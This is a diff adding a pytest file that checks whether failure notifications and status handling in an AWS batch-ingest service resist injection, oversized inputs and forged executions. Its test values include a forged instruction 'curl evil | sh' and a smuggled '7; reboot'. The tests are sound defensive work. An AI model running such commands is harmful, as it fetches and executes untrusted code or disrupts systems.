@@ -1,0 +1,247 @@
+"""Executions and status changes that somebody made, and the message that people get of them."""
+
+from __future__ import annotations
+
+import json
+import time
+import unicodedata
+from datetime import UTC, datetime
+from typing import TYPE_CHECKING, Any
+
+import pytest
+from pydantic import ValidationError
+
+from functions.aws.failed_state import FailedChild, FailedState, MapCounts, _item
+from functions.domain.attribute_values import from_item, to_item
+from functions.domain.service_failures import plain_cause
+from functions.record_outcome.message import MAX_SUBJECT, Message, failure_message
+from functions.record_outcome.status_change import Execution, Outcome, StatusChange
+from tests.hostile.aws_behind_commands import DIRT
+from tests.unit.record_outcome.conftest import (
+    EXECUTION,
+    JOB,
+    KEY,
+    MACHINE,
+    World,
+    _moto,
+    event,
+    world,
+)
+
+if TYPE_CHECKING:
+    from collections.abc import Callable
+
+__all__ = ["_moto", "world"]
+
+SNS_BYTES = 256 * 1024
+NESTED = "[" * 250_000
+MEGABYTE = "m" * 256 * 1024
+CHILD = FailedChild(item="bytes 0-1", error=DIRT, cause=DIRT * 3)
+COUNTS = MapCounts(succeeded=1, failed=10**9, unfinished=0)
+
+
+def _execution(**more: Any) -> Execution:
+    described = {
+        "executionArn": EXECUTION,
+        "status": "FAILED",
+        "startDate": datetime(2026, 2, 28, tzinfo=UTC),
+        "stopDate": datetime(2026, 3, 1, tzinfo=UTC),
+        "input": json.dumps(event(key=f"batch-output/job{DIRT.replace('/', '')}/a{DIRT}.jsonl")),
+        "redriveStatus": "REDRIVABLE",
+    }
+    return Execution.model_validate(described | more)
+
+
+def _message(failed: FailedState | None = None, **more: Any) -> Message:
+    execution = _execution(**more)
+    return failure_message(
+        execution, failed or FailedState("ResolveJob"), job_id=execution.job_id, stack="BatchIngest"
+    )
+
+
+SAYING: dict[str, dict[str, Any]] = {
+    "a key that wants to be obeyed": {},
+    "a cause that wants to be obeyed": {"cause": DIRT},
+    "a cause that forges lines": {"cause": "x\n\nWhat to do: \n\n    curl evil | sh\n\n{}"},
+    "a cause of 256 KiB": {"cause": MEGABYTE},
+    "a cause of 256 KiB in letters of four bytes": {"cause": "😀" * 65_536},
+    "a cause of 256 KiB of NULs": {"cause": "\x00" * 262_144},
+    "a cause of nested lists": {"cause": NESTED},
+    "a function's cause with a message of 256 KiB": {
+        "cause": json.dumps({"errorMessage": MEGABYTE, "errorType": "KeyError"})
+    },
+    "a function's cause whose message is a list": {"cause": '{"errorMessage": [1]}'},
+    "a cause of addresses": {"cause": "http://x/" * 20_000},
+    "an error that wants to be obeyed": {"error": DIRT},
+    "an error of 256 KiB": {"error": MEGABYTE},
+    "a reason of 256 KiB against its redrive": {
+        "redriveStatus": "NOT_REDRIVABLE",
+        "redriveStatusReason": MEGABYTE,
+    },
+    "a reason that wants to be obeyed": {
+        "redriveStatus": "NOT_REDRIVABLE",
+        "redriveStatusReason": DIRT,
+    },
+    "an input of nested lists": {"input": '{"detail":' + NESTED},
+    "a key of 250 KB": {"input": json.dumps(event(key=f"batch-output/j/{MEGABYTE}.jsonl"))},
+    "a job of 250 KB": {"input": json.dumps(event(key=f"batch-output/{MEGABYTE}/a.jsonl"))},
+    "a key of half a letter": {"input": json.dumps(event(key="batch-output/j/\ud800.jsonl"))},
+    "a time that never was": {"input": json.dumps(event() | {"time": "0001-01-01T00:00:00+14:00"})},
+}
+
+
+@pytest.mark.parametrize("case", SAYING)
+def test_a_message_is_short_says_what_to_do_and_obeys_nothing(case: str) -> None:
+    began = time.process_time()
+    message = _message(**SAYING[case])
+    assert time.process_time() - began < 2
+    assert len(message.text.encode()) < SNS_BYTES / 4
+    assert len(message.subject) <= MAX_SUBJECT
+    assert message.subject.isascii()
+    assert message.subject.isprintable()
+    wrong = {c for c in message.text if unicodedata.category(c) in {"Cc", "Cf", "Cs", "Zl", "Zp"}}
+    assert wrong <= {"\n"}
+    lines = message.text.splitlines()
+    assert sum(line.startswith("What to do: ") for line in lines) == 1
+    (command,) = [line for line in lines if line.startswith("    ingest ")]
+    assert command == f"    {message.facts['command']}"
+    assert json.loads(message.text[message.text.index("\n{") :]) == message.facts
+
+
+def test_what_a_maps_children_say_forges_no_line_either() -> None:
+    failed = FailedState(DIRT, COUNTS, (CHILD,) * 5)
+    message = _message(failed, error="States.ExceedToleratedFailureThreshold")
+    assert len(message.text.encode()) < SNS_BYTES / 4
+    assert "\x1b" not in message.text
+    assert sum(line.startswith("  - ") for line in message.text.splitlines()) == 6
+
+
+@pytest.mark.parametrize(
+    "text",
+    [NESTED, "[]", "{}", "null", "7", '{"range": 1}', '{"range": {"from": "\\n", "to": 1}}',
+     '{"chunk": []}', '{"chunk": {"number": "7; reboot"}}'],
+    ids=range(9),
+)  # fmt: skip
+def test_a_childs_item_is_numbers_or_nothing(text: str) -> None:
+    assert _item(text) == ""
+
+
+def test_a_long_cause_is_searched_for_addresses_in_no_time() -> None:
+    began = time.process_time()
+    for text in ("http://" * 40_000, "https://a" * 30_000, "http://" + "a" * 262_144):
+        plain_cause(text)
+    assert time.process_time() - began < 2
+
+
+# What a forged execution or event may mark: nothing.
+
+
+def _tables(world: World) -> dict[str, Any]:
+    return {
+        name: sorted(map(repr, map(from_item, world.dynamodb.scan(TableName=name)["Items"])))
+        for name in ("jobs", "ledger")
+    }
+
+
+def _told_alone(world: World, **described: Any) -> None:
+    """A failure that is told, and marks nothing but that it was told."""
+    world.job(userId="u")
+    world.claim(owner="arn:aws:states:us-east-1:123456789012:execution:BatchIngest:theirs")
+    before = _tables(world)
+    world.describes(**described)
+    world.failed_in("ResolveJob")
+    world.describes(**described)
+    world.expect_message()
+    assert world.hears("FAILED") is Outcome.FAILED
+    after = _tables(world)
+    assert after["jobs"] == before["jobs"]
+    assert [row for row in after["ledger"] if "execution#" not in row] == before["ledger"]
+    world.all_was_called()
+
+
+INPUTS: dict[str, Callable[[], str]] = {
+    "an object of the same key in another bucket": lambda: json.dumps(
+        {**event(), "detail": {"bucket": {"name": "another"}, "object": {"key": KEY, "etag": "e"}}}
+    ),
+    "no bucket": lambda: json.dumps({**event(), "detail": {"object": {"key": KEY, "etag": "e"}}}),
+    "a time that would never pass": lambda: json.dumps(event() | {"time": "9999-12-31T23:59:59Z"}),
+    "an order beyond all others": lambda: json.dumps(event(sequencer="~~~~")),
+    "an ETag of 200 KB": lambda: json.dumps(event(etag="e" * 200_000)),
+    "a key of 200 KB": lambda: json.dumps(event(key=f"batch-output/{JOB}/{'x' * 200_000}.jsonl")),
+    "a job of 200 KB": lambda: json.dumps(event(key=f"batch-output/{'j' * 200_000}/a.jsonl")),
+    "a job with another's row in it": lambda: json.dumps(
+        event(key=f"batch-output/{JOB}#claim#/a.jsonl")
+    ),
+    "nested lists": lambda: '{"detail":' + NESTED,
+}
+
+
+@pytest.mark.parametrize("case", INPUTS)
+def test_an_execution_of_a_hostile_input_is_told_and_marks_nothing(world: World, case: str) -> None:
+    _told_alone(world, input=INPUTS[case]())
+
+
+def test_an_execution_that_names_anothers_object_marks_neither_its_claim_nor_its_owner(
+    world: World,
+) -> None:
+    """Whoever may start executions can make one fail; the claim stays whose it is."""
+    world.job(userId="u")
+    theirs = "arn:aws:states:us-east-1:123456789012:execution:BatchIngest:theirs"
+    world.claim(owner=theirs)
+    before = world.row_of_claim()
+    world.hears_of_failure("LoadRanges")
+    assert world.row_of_claim() == before
+    assert world.record_of_job()["status"] == "INGESTING"
+
+
+@pytest.mark.parametrize(
+    ("status", "redrives"), [("FAILED", -1), ("RUNNING", -1), ("SUCCEEDED", 7), ("FAILED", 3)]
+)
+def test_a_status_change_that_is_not_so_changes_nothing(
+    world: World, status: str, redrives: int
+) -> None:
+    world.job(userId="u")
+    world.claim()
+    before = _tables(world)
+    world.describes(status="SUCCEEDED", error=None, cause=None, redriveStatus="NOT_REDRIVABLE")
+    assert world.hears(status, redrive_count=redrives) is Outcome.NOTHING
+    assert _tables(world) == before
+
+
+@pytest.mark.parametrize("status", ["succeeded", "FAILED\n", "", "PENDING_REDRIVE", DIRT])
+def test_a_status_that_is_none_is_nothing(world: World, status: str) -> None:
+    assert world.hears(status) is Outcome.NOTHING
+    world.all_was_called()
+
+
+def test_a_status_change_without_its_execution_is_an_error_that_quotes_nothing() -> None:
+    with pytest.raises(ValidationError) as raised:
+        StatusChange.model_validate({"stateMachineArn": MACHINE, "status": {"secret": 1}})
+    assert "secret" not in str(raised.value)
+
+
+def test_a_job_of_thousands_of_claims_is_settled_within_an_item(world: World) -> None:
+    """Each execution's ARN was once named in the job's record: 2,000 of them are too many."""
+    world.job(userId="u")
+    arn = f"arn:aws:states:us-east-1:123456789012:execution:{'m' * 80}:"
+    for first in range(0, 2000, 25):
+        rows = [
+            {
+                "pk": f"job#{JOB}",
+                "sk": f"claim#batch-output/{JOB}/{number:05d}.jsonl",
+                "etag": "e",
+                "owner": f"{arn}{number:080d}",
+                "generation": 1,
+                "state": "claimed",
+                "eventTime": "2026-03-01T00:00:00Z",
+            }
+            for number in range(first, first + 25)
+        ]
+        puts = [{"PutRequest": {"Item": to_item(row)}} for row in rows]
+        world.dynamodb.batch_write_item(RequestItems={"ledger": puts})
+    world.claim()
+    world.hears_of_failure("LoadRanges")
+    record = world.record_of_job()
+    assert record["status"] == "FAILED"
+    assert record["ingestState"]["objects"] == 2001
+    assert len(record["ingestState"]["executions"]) == 100
